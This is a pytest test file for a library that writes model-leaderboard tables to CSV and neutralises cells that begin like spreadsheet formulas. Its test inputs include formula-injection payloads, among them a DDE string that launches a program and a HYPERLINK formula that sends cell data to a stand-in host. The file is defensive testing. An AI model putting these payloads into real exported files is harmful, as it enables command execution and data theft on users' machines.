from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

import lvkit as lv
from lvkit.data.side_files import read_benchmarks, read_families
from lvkit.data.table_files import as_written, csv_text, neutralised

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", '=HYPERLINK("http://a.b/?"&A1,"x")', "=cmd|' /C calc'!A0",
    "\t=1", "\r=1", "\n=1", "  =1", "＝1", "＋1+a", "－x", "＠x", "'=1+1", "''-x", "'@x",
    "--0.5", "-",
]  # fmt: skip
HARMLESS = ["gpt-2", "", "'quoted'", "'", "-0.5", "+3", "1e-5", "-1.5e+22", ".5", "a=b", "'-0.5x'b"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_begins_like_a_formula_does_so_no_more(text: str) -> None:
    safe = neutralised(text)
    assert safe == f"'{text}"
    assert as_written(safe) == text


@pytest.mark.parametrize("text", HARMLESS[:-1])
def test_a_text_that_does_not_is_left(text: str) -> None:
    assert neutralised(text) == text


@pytest.mark.parametrize("text", FORMULAS + HARMLESS)
@pytest.mark.parametrize("marks", ["", "'", "''"])
def test_every_text_reads_back_as_it_was(text: str, marks: str) -> None:
    assert as_written(neutralised(marks + text)) == marks + text


def test_only_texts_are_changed() -> None:
    cells = [-0.5, -3, None, True, float("-inf"), pd.NA]
    assert all(neutralised(cell) is cell for cell in cells)


def test_a_table_is_safe_in_its_cells_its_index_and_its_header() -> None:
    table = pd.DataFrame(
        {
            "=a": [-0.5, 2.0],
            "b": ["@x", None],
            "-c": pd.Categorical(["+y", "z"]),
            "d": [True, False],
        },
        index=pd.Index(["=r", "s"], name="-i"),
    )
    rows = list(csv.reader(io.StringIO(csv_text(table, index=True))))
    assert rows == [
        ["'-i", "'=a", "b", "'-c", "d"],
        ["'=r", "-0.5", "'@x", "'+y", "True"],
        ["s", "2.0", "", "z", "False"],
    ]


def test_a_table_without_formulas_is_written_as_pandas_does() -> None:
    frame = lv.load_leaderboard().to_frame()
    assert csv_text(frame) == frame.to_csv(index=False, lineterminator="\n")
    assert csv_text(frame.iloc[:0]) == frame.iloc[:0].to_csv(index=False, lineterminator="\n")


def hostile_panel() -> lv.Panel:
    """A panel whose models, families, benchmarks and features have names like formulas."""
    frame = pd.DataFrame({
        "model": ["=1+1", "'=x", "-7b", "@a", "''+b", "'quoted'"],
        "family": ["=f", "=f", "-g", "-g", "+1+1", "+1+1"],
        "params_b": [1.0, 2.0, 7.0, 3.0, 4.0, 5.0],
        "tokens_t": [1.0, 1.0, 2.0, 2.0, 1.0, 1.0],
        "=cmd|' /C calc'!A0": [0.1, 0.2, 0.3, 0.4, 0.5, 0.6],
        "@bench": [0.2, 0.3, 0.4, 0.5, 0.6, 0.7],
        "'-third": [0.2, 0.3, 0.4, 0.5, 0.6, float("nan")],
        "-shift": [-0.5, -1.0, 2.0, 3.0, -4.0, 5.0],
    })  # fmt: skip
    benchmarks = {name: 0.0 for name in frame.columns[4:7]}
    return lv.Panel.from_frame(frame, benchmarks=benchmarks)


def test_a_panel_with_hostile_names_reads_back_unchanged(tmp_path: Path) -> None:
    panel = hostile_panel()
    panel.write_csv(tmp_path / "scores.csv")
    with open(tmp_path / "scores.csv", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    texts = [cell for cell in cells if not cell.lstrip("-").replace(".", "").isdigit()]
    assert [text for text in texts if text.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    assert "-0.5" in cells
    again = lv.read_panel(tmp_path / "scores.csv", benchmarks=panel.benchmarks)
    pd.testing.assert_frame_equal(again.to_frame(), panel.to_frame())
    assert again.digest == panel.digest


def test_files_beside_a_table_speak_of_the_same_names(tmp_path: Path) -> None:
    path = tmp_path / "side.csv"
    path.write_text(csv_text(pd.DataFrame({"model": ["=1+1"], "family": ["@f"]})))
    assert read_families(path) == {"=1+1": "@f"}
    path.write_text(csv_text(pd.DataFrame({"benchmark": ["-x"], "chance": [0.25]})))
    assert list(read_benchmarks(path)["benchmark"]) == ["-x"]
